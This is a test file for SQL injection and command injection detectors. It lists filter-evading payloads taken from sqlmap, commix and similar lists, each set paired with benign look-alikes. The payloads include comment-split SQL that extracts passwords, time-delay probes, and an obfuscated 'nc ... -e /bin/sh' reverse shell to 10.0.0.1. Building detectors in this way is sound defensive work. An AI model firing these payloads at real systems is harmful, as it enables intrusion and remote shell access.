// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads and templates are literal "${...}" strings, not templates.
import { cmdiDetector } from "../src/detectors/cmdi/index.js";
import { sqliDetector } from "../src/detectors/sqli/index.js";
import { describeRules, scoreOf } from "./helpers.js";

/**
 * Families found by scoring the shield on payload lists it was not tuned on: sqlmap's and commix's tamper
 * scripts applied to their own probes, SecLists' fuzzing lists, fuzzdb and payloadbox. Each rule pairs list
 * entries with near misses a person or a program writes.
 */
describeRules("outside payloads: SQL injection", (value) => scoreOf(sqliDetector, value), {
  "an empty comment glued inside a keyword, for a filter that strips comments (sqlmap randomcomments)": {
    attacks: [
      "1' AN/**/D 5626=5626",
      "-1 UN/**/IO/**/N AL/**/L SE/**/LE/**/CT NU/**/LL,CO/**/NC/**/AT(0x716b6a7671,0x41,0x7170707671),NU/**/LL-- -",
      "1;WA/**/IT/**/FO/**/R DE/**/LA/**/Y '0:0:5'--",
      "1 AN/**/D EX/**/TR/**/AC/**/TV/**/AL/**/UE(1,CO/**/NC/**/AT(0x7e,(SE/**/LE/**/CT pw FR/**/OM users LI/**/MI/**/T 1)))",
    ],
    // Globs put `/**/` between two names; joined, the names still make no query.
    benign: [
      "src/**/test.ts and lib/**/x",
      "globs like docs/**/index.md match nested folders",
      "packages/**/dist, or/**/and are both valid patterns",
      "select files with src/**/from_*.ts",
    ],
  },
});

describeRules("outside payloads: command injection", (value) => scoreOf(cmdiDetector, value), {
  "a variable nobody set, glued inside a command's name (commix uninitializedvariable)": {
    attacks: ["1||u${na}n${wp}a${ly}m${jz}e -a", "1&&n${nz}c 10.0.0.1 4444 -e /bin/sh", ";${aB}w${aB}h${aB}oa${aB}m${aB}i"],
    // Templates put their placeholders between separators, or glue them to one side only.
    benign: [
      "Hello ${firstName}s, welcome",
      "const s = `${base}path${x}id`",
      "url: /api/${version}/users/${id}",
      "Dear ${name}s, your ${item}s have shipped",
    ],
  },
  "an empty shell comment closing the value after the command": {
    attacks: ["a|id #", "a;id #", "a;id #'", 'a;id #"'],
    // A `#` with something after it is a number sign, a hashtag or a note in prose.
    benign: ["see page 4; id #12", "Section 2; id # see below", "colors: red; tail # blue", "Order A; ls #3 please"],
  },
  "usleep, sleep in microseconds (commix sleep2usleep)": {
    attacks: [";usleep 5000000", "|usleep${IFS}5000000", "usleep 5000000"],
    benign: ["the usleep function is obsolete in POSIX.1-2008", "usleep", "usleep vs nanosleep: which is better?"],
  },
});
